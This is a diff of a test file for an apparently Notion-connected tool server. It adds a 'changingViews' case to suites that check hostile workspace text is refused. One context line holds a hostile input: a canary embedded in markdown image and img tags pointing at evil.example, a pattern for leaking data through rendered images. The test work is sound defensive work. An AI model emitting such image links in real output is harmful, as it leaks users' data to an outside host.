@@ -7,6 +7,7 @@ import { say } from '../../src/text/words.js';
 import { ToolError, UnavailableError } from '../../src/errors.js';
 import { database } from './error-paths/call.js';
 import { changingColumns } from './error-paths/changing-columns.js';
+import { changingViews } from './error-paths/changing-views.js';
 import { changingPages } from './error-paths/changing-pages.js';
 import { failures } from './error-paths/failures.js';
 import { lookups } from './error-paths/lookups.js';
@@ -25,7 +26,7 @@ const texts = [
   `${CANARY} ![x](https://evil.example/${CANARY}.png) <img src=//evil.example>`,
 ];
 /** Each gives calls that are refused in a world whose every name is the text. */
-const subjects = { reading, querying, settingValues, changingPages, changingColumns, uploading };
+const subjects = { reading, querying, settingValues, changingPages, changingColumns, changingViews, uploading };
 
 let notion: HostileNotion;
 const calls = new RefusedCalls();
@@ -44,7 +45,8 @@ const UNREACHABLE: Readonly<Record<string, string>> = {
   'src/notion/client/fetch-file-for.ts': 'a constant number of bytes',
   'src/notion/query/conditions/filter.ts': 'whoever looks up people and pages refuses first',
   'src/notion/roots/rooted-session.ts': 'for a request of a form that this server does not make',
-  'src/notion/roots/write-gate.ts': 'the endpoint is a constant, of a form that this server does not make',
+  'src/notion/roots/write-gate.ts': 'needs a server that limits changes: limited-writes.test.ts',
+  'src/workspace/changes/rehearse.ts': 'needs a server that limits changes: limited-writes.test.ts',
   'src/notion/query/where.ts': 'a constant number; the schema of the argument takes no more',
 };
 
